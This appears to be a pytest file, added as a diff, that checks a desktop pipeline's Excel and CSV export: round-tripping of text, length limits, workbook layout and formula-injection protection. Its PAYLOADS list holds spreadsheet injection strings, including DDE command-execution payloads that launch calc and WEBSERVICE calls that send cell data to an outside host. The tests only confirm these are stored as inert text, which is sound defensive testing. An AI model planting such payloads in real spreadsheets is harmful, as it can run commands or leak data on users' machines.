@@ -1,0 +1,225 @@
+"""The people's workbook and the CSV as files: what programs and we ourselves find in them."""
+
+import re
+import zipfile
+from collections.abc import Sequence
+from datetime import date
+from pathlib import Path
+
+import pytest
+from hypothesis import Phase, given, settings
+from hypothesis import strategies as st
+from openpyxl import load_workbook
+
+from desktop_pipeline.domain.cells import unguard
+from desktop_pipeline.domain.errors import CannotOpenError
+from desktop_pipeline.exchange.reading.files import read_book
+from desktop_pipeline.exchange.tables import show
+from desktop_pipeline.exchange.writing.cell_texts import FORBIDDEN, TOO_LONG, fit_text
+from desktop_pipeline.exchange.writing.csv_file import write_csv
+from desktop_pipeline.exchange.writing.out_tables import (
+    ChartData,
+    OutBook,
+    OutColumn,
+    OutRow,
+    OutTable,
+    Summary,
+    Trouble,
+)
+from desktop_pipeline.exchange.writing.workbook import write_workbook
+from tests.actions.trips import save_again
+
+PAYLOADS = (
+    "=1+1",
+    '=HYPERLINK("http://example.com","click")',
+    "=cmd|' /C calc'!A0",
+    '=WEBSERVICE("http://example.com/"&A1)',
+    '=IMPORTXML("http://example.com","//a")',
+    "+1+1",
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "@A1",
+    "\t=1+1",
+    "\r=1+1",
+    "'=1+1",
+    '=DDE("cmd";"/C calc";"x")',
+    "{=1+1}",
+)
+LONGEST = 32_767
+# What XML cannot hold is a problem that is named, half characters no file can hold, and blank space alone is nothing
+TEXTS = st.text(
+    st.characters(
+        blacklist_categories=["Cs"],
+        blacklist_characters=[*map(chr, (*range(9), 11, 12, *range(14, 32))), "\ufffe", "\uffff"],
+    ),
+    min_size=1,
+    max_size=24,
+).filter(str.strip)
+SUMMARY = Summary(
+    "Company",
+    (("As of", date(2026, 6, 9)),),
+    (("Deals", 2, ""), ("Value", 12.5, "EUR")),
+    (ChartData("By stage", ("Stage", "EUR"), (("First", 1.0), ("Second", 2.5))),),
+)
+
+
+def no_progress(_done: int, _total: int) -> None:
+    """Nobody waits."""
+
+
+def make_table(rows: Sequence[OutRow], columns: Sequence[OutColumn] = (OutColumn("text", "Text"),)) -> OutTable:
+    return OutTable("Deals", tuple(columns), rows, len(rows))
+
+
+def write_book(path: Path, *tables: OutTable, lists: dict[str, tuple[str, ...]] | None = None) -> tuple[Trouble, ...]:
+    return write_workbook(path, OutBook(tables, lambda: SUMMARY, lists or {}, {"Mark": "x"}), no_progress)
+
+
+def read_texts(path: Path, sheet: str | None) -> list[str]:
+    """The first cells of the rows below the header, as an import gets them."""
+    book = read_book(path, named=("Text", "Row"))
+    (table,) = (table for table in book.tables if table.sheet == sheet)
+    place = table.headers.index("Text")
+    return [show(row.cells[place]) for row in table.rows]
+
+
+def number_rows(texts: Sequence[str]) -> OutTable:
+    columns = (OutColumn("row", "Row", "number"), OutColumn("text", "Text"))
+    return make_table([(place, text) for place, text in enumerate(texts)], columns)
+
+
+@settings(max_examples=40, phases=[Phase.generate])
+@given(texts=st.lists(TEXTS, min_size=250, max_size=250))
+def test_ten_thousand_texts_come_back_from_both_files_as_they_were(
+    texts: list[str], tmp_path_factory: pytest.TempPathFactory
+) -> None:
+    folder = tmp_path_factory.mktemp("texts")
+    book, table = folder / "out.xlsx", folder / "out.csv"
+    assert write_book(book, number_rows(texts)) == ()
+    assert read_texts(book, "Deals") == texts
+    kept = [text for text in texts if "\0" not in text]
+    assert write_csv(table, number_rows(kept), no_progress) == ()
+    assert [unguard(text) for text in read_texts(table, None)] == kept
+
+
+@pytest.mark.parametrize("text", ["x" * LONGEST, "=" + "1" * (LONGEST - 1), "é" * LONGEST, "😀" * (LONGEST // 2)])
+def test_a_text_of_the_full_length_comes_back_whole(tmp_path: Path, text: str) -> None:
+    assert write_book(tmp_path / "out.xlsx", number_rows([text])) == ()
+    assert read_texts(tmp_path / "out.xlsx", "Deals") == [text]
+
+
+def test_a_longer_text_and_what_xml_forbids_are_named_and_not_silently_cut(tmp_path: Path) -> None:
+    texts = ["fine", "x" * (LONGEST + 1), "a\x0bb", "😀" * (LONGEST // 2 + 1)]
+    troubles = write_book(tmp_path / "out.xlsx", number_rows(texts))
+    assert [(each.row, each.header, each.trouble) for each in troubles] == [
+        (3, "Text", TOO_LONG),
+        (4, "Text", FORBIDDEN),
+        (5, "Text", TOO_LONG),
+    ]
+    read = read_texts(tmp_path / "out.xlsx", "Deals")
+    assert read[0] == "fine"
+    assert len(read[1]) == LONGEST
+    assert read[1].endswith("x…")
+    assert read[2] == "a\ufffdb"
+    assert fit_text("a\x0bb")[1] == FORBIDDEN
+
+
+def test_formula_payloads_are_texts_in_libreoffice(tmp_path: Path) -> None:
+    write_book(tmp_path / "out.xlsx", number_rows(PAYLOADS))
+    written = save_again(tmp_path / "out.xlsx", "fods", tmp_path).read_text(encoding="utf-8")
+    assert "table:formula=" not in written
+    assert written.count("/C calc") == sum("/C calc" in payload for payload in PAYLOADS)
+    write_csv(tmp_path / "table.csv", number_rows(PAYLOADS), no_progress)
+    plain = save_again(tmp_path / "table.csv", "fods", tmp_path).read_text(encoding="utf-8")
+    assert "table:formula=" not in plain
+
+
+def test_payloads_are_string_cells_with_the_mark_for_texts(tmp_path: Path) -> None:
+    write_book(tmp_path / "out.xlsx", number_rows(PAYLOADS))
+    sheet = load_workbook(tmp_path / "out.xlsx")["Deals"]
+    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
+    assert {cell.data_type for cell in cells} == {"s"}
+    assert [cell.quotePrefix for cell in cells] == [not payload.startswith("{") for payload in PAYLOADS]
+
+
+COLUMNS = (
+    OutColumn("title", "Title"),
+    OutColumn("value", "Value", "money"),
+    OutColumn("currency", "Currency"),
+    OutColumn("probability", "Probability", "share"),
+    OutColumn("created", "Created", "day"),
+    OutColumn("owner", "Owner", choices="Owners"),
+    OutColumn("our_id", "Deal ID (do not change)", "hidden"),
+)
+ROWS: tuple[OutRow, ...] = (
+    ("Oak", 1234.56, "EUR", 0.5, date(2026, 6, 9), "Ann", 1),
+    ("Elm", 1200, "JPY", None, None, None, 2),
+    ("Ash and a longer name than the others have, much longer", 0.001, "KWD", 1.0, date(1999, 1, 1), "Ben", 3),
+)
+
+
+def test_the_workbook_has_what_people_expect(tmp_path: Path) -> None:
+    out = tmp_path / "out.xlsx"
+    write_book(out, make_table(ROWS, COLUMNS), lists={"Owners": ("Ann", "Ben"), "Statuses": ("Open",)})
+    book = load_workbook(out)
+    assert book.sheetnames == ["Summary", "Deals", "Lists"]
+    assert book["Lists"].sheet_state == "hidden"
+    sheet = book["Deals"]
+    assert sheet.tables["Deals"].ref == "A1:G4"
+    assert sheet.tables["Deals"].autoFilter is not None
+    assert sheet.freeze_panes == "B2"
+    assert [sheet.cell(row, 2).number_format for row in (2, 3, 4)] == [
+        "#,##0.00 [$EUR]",
+        "#,##0 [$JPY]",
+        "#,##0.000 [$KWD]",
+    ]
+    assert [sheet.cell(row, 2).value for row in (2, 3, 4)] == [1234.56, 1200, 0.001]
+    assert sheet["E2"].is_date
+    assert sheet["E2"].value.date() == date(2026, 6, 9)
+    assert sheet["D2"].number_format == "0%"
+    assert sheet.column_dimensions["G"].hidden
+    assert sheet.column_dimensions["A"].width > sheet.column_dimensions["E"].width
+    (rule,) = sheet.data_validations.dataValidation
+    assert (rule.formula1, rule.type) == ("Lists!$A$2:$A$3", "list")
+    assert "F2" in rule.sqref
+    assert len(book["Summary"]._charts) == 1
+    assert book.custom_doc_props["Mark"].value == "x"
+
+
+def test_an_empty_table_is_still_a_table(tmp_path: Path) -> None:
+    write_book(tmp_path / "out.xlsx", make_table((), COLUMNS))
+    assert load_workbook(tmp_path / "out.xlsx")["Deals"].tables["Deals"].ref == "A1:G2"
+
+
+def test_giving_up_leaves_nothing_behind_also_while_it_is_packed(tmp_path: Path) -> None:
+    rows = [(place, "text") for place in range(2_000)]
+    for last in (500, 2_000):
+
+        class GivenUpError(Exception):
+            """Somebody has pressed Cancel."""
+
+        def progress(done: int, _total: int, last: int = last, stop: type[Exception] = GivenUpError) -> None:
+            if done >= last:
+                raise stop
+
+        table = make_table(rows, (OutColumn("row", "Row", "number"), OutColumn("text", "Text")))
+        with pytest.raises(GivenUpError):
+            write_workbook(tmp_path / "out.xlsx", OutBook((table,), lambda: SUMMARY), progress)
+        with pytest.raises(GivenUpError):
+            write_csv(tmp_path / "out.csv", table, progress)
+        assert list(tmp_path.iterdir()) == []
+
+
+def test_a_folder_that_is_not_there_is_one_sentence(tmp_path: Path) -> None:
+    for name, write in (("out.xlsx", write_book), ("out.csv", lambda path, table: write_csv(path, table, no_progress))):
+        with pytest.raises(CannotOpenError, match="cannot be written"):
+            write(tmp_path / "nowhere" / name, number_rows(["x"]))
+
+
+def test_no_part_of_the_file_holds_a_formula(tmp_path: Path) -> None:
+    write_book(tmp_path / "out.xlsx", number_rows(PAYLOADS), lists={})
+    with zipfile.ZipFile(tmp_path / "out.xlsx") as parts:
+        sheets = [parts.read(name).decode() for name in parts.namelist() if "worksheets/sheet" in name]
+    assert not any(re.search(r"<f[ >]", sheet) for sheet in sheets)
